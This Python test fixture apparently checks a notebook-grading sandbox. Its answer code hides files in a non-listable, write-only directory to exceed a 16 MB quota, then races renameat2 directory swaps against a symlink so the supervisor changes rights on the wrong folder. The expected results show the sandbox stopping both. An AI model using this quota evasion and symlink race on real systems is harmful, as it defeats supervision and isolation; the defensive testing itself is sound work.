"""Hides files from the supervisor in a folder that may be entered and not listed, and exchanges folders under its eyes.

A supervisor that follows a link instead of the folder that it saw would change the rights of a folder of the course.
"""

STOPPED_BY = {
    "sealed": r"hidden OSError 28 after 1\d MB",
    "fenced": r"`cell q1_scale_answer` wrote more than the limit of 16 MB of files",
}
ANSWERS = {
    "q1_scale": r"""
        import ctypes, os, time

        libc = ctypes.CDLL(None, use_errno=True)
        os.mkdir("closed", 0o300)
        os.mkdir("real")
        os.mkdir("real/hidden", 0o000)
        os.symlink(os.path.dirname(os.path.dirname("$hidden")), "lying")
        held = 0
        try:
            for number in range(48):
                with open(f"closed/{number}", "wb", buffering=0) as file:
                    held += file.write(bytes(1 << 20))
        except OSError as error:
            print("hidden OSError", error.errno, "after", held >> 20, "MB")
        end = time.monotonic() + 1
        while time.monotonic() < end:
            libc.renameat2(-100, b"real", -100, b"lying", 2)
        """,
}
